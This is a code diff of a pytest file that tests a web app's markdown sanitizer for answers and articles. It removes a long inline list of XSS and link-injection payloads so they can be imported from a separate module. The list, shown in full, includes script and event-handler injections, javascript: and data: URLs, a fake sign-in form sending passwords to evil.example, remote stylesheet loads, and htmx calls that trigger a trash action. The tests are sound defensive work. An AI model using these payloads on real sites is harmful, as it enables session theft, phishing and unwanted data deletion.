@@ -7,91 +7,8 @@ from html.parser import HTMLParser
 import pytest
 
 from apps.core.markdown import answer_html, article_html
+from apps.core.tests.attacks import ATTACKS, numbered
 
-ATTACKS = [
-    "![x](https://evil.example/p.png)",
-    "![x](http://evil.example/p.png?q=secret 'title')",
-    "![x][pic]\n\n[pic]: https://evil.example/p.png",
-    "[![x](https://evil.example/p.png)](https://evil.example/)",
-    "![](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    "[click](https://evil.example/)",
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](java\tscript:alert(1))",
-    "[click](&#106;avascript:alert(1))",
-    "[click](vbscript:msgbox(1))",
-    "[click](data:text/html,<script>alert(1)</script>)",
-    "[click](file:///etc/passwd)",
-    "[click](//evil.example/)",
-    "[click](/\\evil.example/)",
-    "[click](\\\\evil.example\\share)",
-    "[click](blob:https://evil.example/x)",
-    "[click](<javascript:alert(1)>)",
-    "[a]: https://evil.example/\n\n[a]",
-    "[1]: https://evil.example/\n\nAs the source says [1].",
-    "[1]: javascript:alert(1)\n\nAs the source says [1].",
-    "[1]\n\n[1]: <https://evil.example/> 'title'",
-    "see [1][2] and [2][1]\n\n[1]: https://evil.example/\n[2]: https://evil.example/",
-    "a footnote[^1]\n\n[^1]: https://evil.example/",
-    "<https://evil.example/>",
-    "<javascript:alert(1)>",
-    "<mailto:victim@evil.example>",
-    "https://evil.example/ as it stands",
-    "www.evil.example",
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
-    "<scr<script>ipt>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='https://evil.example/p.png'>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<iframe src=javascript:alert(1)>",
-    "<object data='javascript:alert(1)'></object>",
-    "<embed src='https://evil.example/x.swf'>",
-    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
-    "<details open ontoggle=alert(1)><summary>x</summary></details>",
-    "<div style='position:fixed;inset:0;background:url(https://evil.example/)'>",
-    "<style>body{background:url(https://evil.example/)}</style>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<base href='https://evil.example/'>",
-    "<div hx-get='/library/1/trash/' hx-trigger='load'>x</div>",
-    "<div data-hx-post='/library/1/trash/' data-hx-trigger='load'>x</div>",
-    "<div hx-on::load='alert(1)'>x</div>",
-    "<a href='#' class='cite'>1</a>",
-    "<a class=cite href=https://evil.example/>1</a>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;img src=x onerror=alert(1)&#62;",
-    "&amp;lt;script&amp;gt;",
-    "<!-- --><script>alert(1)</script>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?>",
-    "<!DOCTYPE html><html onload=alert(1)>",
-    "```html\n<script>alert(1)</script>\n```",
-    '```"><script>alert(1)</script>\nx\n```',
-    "```x onmouseover=alert(1)\nx\n```",
-    "    <script>alert(1)</script>",
-    "`<script>alert(1)</script>`",
-    "~~~<img src=x onerror=alert(1)>\nx\n~~~",
-    "| <img src=x onerror=alert(1)> | b |\n|---|:-:|\n| [x](javascript:alert(1)) | <b>c</b> |",
-    "# <img src=x onerror=alert(1)>",
-    "> <script>alert(1)</script>",
-    "* <img src=x onerror=alert(1)>",
-    "**<img src=x onerror=alert(1)>**",
-    "*[x](javascript:alert(1))*",
-    "\\<script>alert(1)\\</script>",
-    "\u202e<script>alert(1)</script>\u202c",
-    "java\u200bscript:alert(1)",
-    "[\u200bx](\u200bjavascript:alert(1))",
-    "<\u0000script>alert(1)</script>",
-    "\ufeff<script>alert(1)</script>",
-    "＜script＞alert(1)＜/script＞",
-    "{{ secret }} {% load x %}",
-]
 ODDITIES = [
     "",
     " ",
@@ -141,21 +58,21 @@ class Reader(HTMLParser):
         self.tags.append("!")
 
 
-@pytest.mark.parametrize("attack", [*ATTACKS, *ODDITIES])
+@pytest.mark.parametrize("attack", [*ATTACKS, *ODDITIES], ids=numbered)
 def test_b1_nothing_in_an_answer_can_act_or_fetch(attack: str) -> None:
     read = Reader(answer_html(attack))
     assert set(read.tags) <= ANSWER_TAGS - {"a"}
     assert {name for _, name, _ in read.attributes} <= HARMLESS - {"href"}
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("attack", ATTACKS, ids=numbered)
 def test_b2_the_only_thing_to_click_in_an_answer_is_our_citation(attack: str) -> None:
-    read = Reader(answer_html(attack + "\n\nIt holds [1].", {1: "/citations/7/"}))
+    read = Reader(answer_html(f"It holds [1].\n\n{attack}", {1: "/citations/7/"}))
     assert set(read.tags) <= ANSWER_TAGS
     assert {value for _, name, value in read.attributes if name == "href"} == {"/citations/7/"}
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
+@pytest.mark.parametrize("attack", ATTACKS, ids=numbered)
 def test_b1_nothing_in_an_article_can_act_or_fetch(attack: str) -> None:
     read = Reader(article_html(attack))
     assert set(read.tags) <= ANSWER_TAGS | {"h2"}
@@ -163,9 +80,7 @@ def test_b1_nothing_in_an_article_can_act_or_fetch(attack: str) -> None:
     for tag, name, value in read.attributes:
         if name == "href":
             assert tag == "a"
-            assert value.startswith(("https://", "http://", "mailto:", "#")) or (
-                value[0] == "/" and value[1] not in "/\\"
-            )
+            assert value.startswith(("https:", "http:", "mailto:", "#")) or (value[0] == "/" and value[1] not in "/\\")
 
 
 def test_a_marker_becomes_a_link_to_its_citation() -> None:
